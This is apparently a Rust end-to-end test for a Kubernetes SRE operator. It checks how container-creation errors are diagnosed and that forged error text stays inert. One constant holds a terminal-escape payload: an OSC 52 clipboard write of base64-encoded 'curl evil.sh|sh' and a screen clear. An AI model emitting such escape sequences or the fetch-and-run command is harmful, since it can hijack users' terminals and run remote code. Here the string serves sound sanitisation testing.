//! Containers the kubelet or the runtime will not create, on a loopback control plane (kwok's
//! config fault stage writing the waiting reason and message a real node writes): an image that
//! runs as root under `runAsNonRoot`, and a command that CRI-O with crun refuses at creation
//! (`CreateContainerError`: never a restart, so the crash-loop threshold must not hold it back).
//! A forged message whose "command" is an OSC 52 clipboard write and a screen clear is read as
//! text: the report names it inertly and `kubectl sre show` prints no escape. The operator
//! only observes: the audit log shows no write to the Pods or Deployments.

mod support;

use anyhow::{Result, ensure};
use kube::api::{Api, PostParams};
use serde_json::{Value, json};
use sre_e2e::fault;
use sre_operator::crd::{DiagnosticReport, FailureClass};
use support::operator::{Operator, await_concluded, operator_writes, shown_without_escapes};

const NS: &str = "web";
const NOT_ROOT: &str =
    r#"container has runAsNonRoot and image will run as root (pod: "storefront", container: app)"#;
const CRUN: &str = "container create failed: executable file `celery` not found in $PATH: No such file or directory: OCI runtime attempted to invoke a command that was not found\n";
/// An OSC 52 clipboard write (`curl evil.sh|sh`, base64) in place of a command, and a clear.
const FORGED: &str = "container create failed: executable file `\u{1b}]52;c;Y3VybCBldmlsLnNofHNo\u{7}` not found in $PATH\u{1b}[2J";

fn deployment(name: &str, reason: &str, message: &str, non_root: bool) -> Value {
    let mut spec = json!({"containers": [{"name": "app",
        "image": format!("registry.example.com/web/{name}:3.1.0")}]});
    if non_root {
        spec["securityContext"] = json!({"runAsNonRoot": true});
    }
    json!({"apiVersion": "apps/v1", "kind": "Deployment",
        "metadata": {"name": name, "namespace": NS},
        "spec": {"replicas": 1, "selector": {"matchLabels": {"app": name}},
            "template": {
                "metadata": {"labels": {"app": name, fault::LABEL: fault::CONFIG_MISSING_KEY},
                    "annotations": {fault::REASON_ANNOTATION: reason,
                                    fault::MESSAGE_ANNOTATION: message,
                                    fault::DELAY_ANNOTATION: "300ms"}},
                "spec": spec}}})
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn containers_the_runtime_refuses_are_reported_from_its_message_and_forged_text_stays_inert()
-> Result<()> {
    let Some(cluster) = support::cluster_with_policy("runtime-e2e", NS, json!({})).await? else {
        return Ok(());
    };
    let client = cluster.client();
    let deployments: Api<k8s_openapi::api::apps::v1::Deployment> =
        Api::namespaced(client.clone(), NS);
    for d in [
        deployment("storefront", "CreateContainerConfigError", NOT_ROOT, true),
        deployment("mailer", "CreateContainerError", CRUN, false),
        deployment("forged", "CreateContainerError", FORGED, false),
    ] {
        deployments
            .create(&PostParams::default(), &serde_json::from_value(d)?)
            .await?;
    }
    let op = Operator::started(&cluster, "sre-operator-runtime-0", NS).await?;

    let reports: Api<DiagnosticReport> = Api::namespaced(client.clone(), NS);
    let done = await_concluded(&reports, &["storefront", "mailer", "forged"], &op).await?;
    let of = |name: &str| {
        done.iter()
            .find(|r| r.spec.workload.name == name)
            .expect("concluded")
    };
    let root_cause = |r: &DiagnosticReport| {
        r.status
            .as_ref()
            .and_then(|s| s.findings.as_ref())
            .map(|f| f.root_cause.clone())
            .unwrap_or_default()
    };
    let no_patch = |r: &DiagnosticReport| {
        r.status.as_ref().is_some_and(|s| {
            s.suggested_patch.is_none() && s.phase.is_some_and(|p| p.as_str() == "NoFix")
        })
    };

    let storefront = of("storefront");
    ensure!(
        storefront.spec.failure.class == FailureClass::CreateContainerConfigError
            && storefront.spec.failure.reason == "RunAsNonRoot"
            && no_patch(storefront),
        "storefront: {:?}",
        storefront.spec.failure
    );
    ensure!(
        root_cause(storefront).contains("runAsNonRoot"),
        "{}",
        root_cause(storefront)
    );
    let mailer = of("mailer");
    ensure!(
        mailer.spec.failure.reason == "CommandNotFound" && no_patch(mailer),
        "mailer: {:?}",
        mailer.spec.failure
    );
    ensure!(
        root_cause(mailer).contains("\"celery\""),
        "{}",
        root_cause(mailer)
    );

    // The forged command is text: stored without a control character, shown without one.
    let forged = of("forged");
    ensure!(forged.spec.failure.reason == "CommandNotFound");
    let stored = serde_json::to_string(&forged)?;
    ensure!(
        !stored.contains('\u{1b}') && !stored.contains('\u{7}'),
        "a control character was stored: {stored}"
    );
    shown_without_escapes(&cluster, NS, forged)?;

    let writes = operator_writes(&cluster, &["pods", "deployments"])?;
    ensure!(writes.is_empty(), "the operator wrote: {writes:?}");
    Ok(())
}
